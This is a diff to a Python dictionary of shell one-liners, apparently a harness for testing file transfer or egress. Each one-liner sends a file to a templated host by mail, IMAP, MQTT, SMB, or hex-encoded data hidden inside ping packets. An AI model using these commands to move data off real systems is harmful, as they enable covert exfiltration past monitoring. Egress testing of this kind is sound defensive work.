@@ -28,8 +28,7 @@ WAYS = {
     ' s.login("u", "p"); s.send_message(m); s.quit()\' $s',
     "mail, TLS": f"python3 -c '{_LETTER}import ssl; s = smtplib.SMTP_SSL(\"{{host}}\", 465); s.send_message(m); s.quit()' $s",
     "mail, IMAP": "(printf 'Subject: x\\r\\n\\r\\n'; base64 $s) >l && curl -sS -u u:p -T l imap://{host}/Sent",
-    "MQTT": "curl -sS --data-binary @$s mqtt://{host}/a/b",
-    "SMB, curl": "curl -sS -u u1:x -T $s smb://{host}/public/c.bin",
+    "MQTT": "head -c 60000 $s | curl -sS --data-binary @- mqtt://{host}/a/b",
     "SMB, nobody": 'smbclient -N //{host}/public -c "put $s a.bin; get a.bin back; ls" && cmp back $s',
     "SMB, a user, many": "mkdir m && split -b 2M $s m/p && smbclient -U u1%x //{host}/Data"
     ' -c "prompt off; mkdir in; cd in; lcd m; mput p*"',
@@ -43,7 +42,7 @@ WAYS = {
     "echo requests": "head -c 20000 $s | gzip -1c | xxd -p -c 16 | while read -r p; do"
     " ping -c 1 -W 1 -s 32 -p $p {host} >/dev/null || exit 1; done",
 }
-PARTLY = {"TFTP, tftp-hpa": 100, "echo requests": 4}
+PARTLY = {"TFTP, tftp-hpa": 100, "echo requests": 3, "MQTT": 12}
 """Blocks at least, of ways too slow for a whole file."""
 
 
